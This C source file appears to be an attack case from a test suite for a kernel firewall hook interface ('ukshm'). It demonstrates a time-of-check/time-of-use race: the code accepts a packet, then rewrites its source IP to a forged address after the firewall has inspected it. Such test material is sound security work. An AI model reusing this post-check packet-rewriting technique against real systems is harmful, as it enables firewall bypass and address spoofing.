/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Time of check, time of use: lets a packet pass as it is, and changes its source address when the kernel has looked at
 * it and not sent it yet, which takes ukshm.check=before_unmap.
 */
#include "attack.h"

static unsigned char *volatile victim;

OBSERVABLE static void handler(struct upcall *upcall)
{
    if (upcall->operation == HOOK_POSTROUTING)
        victim = (unsigned char *)upcall->address;
    ukshm_ack(upcall->id, upcall->length, ACCEPT);
}

OBSERVABLE static void flip(unsigned char *packet)
{
    static const unsigned char forged[4] = {10, 66, 66, 66};
    memcpy(packet + IP_SOURCE_AT, forged, sizeof forged);
    say("the packet has another source now, and nobody will look again");
}

int main(void)
{
    be_called_as(ROLE_FIREWALL, handler);
    while (!victim)
        sleep(SLEEP_FOREVER);
    flip(victim);
    wait_for_the_end();
    return 0;
}
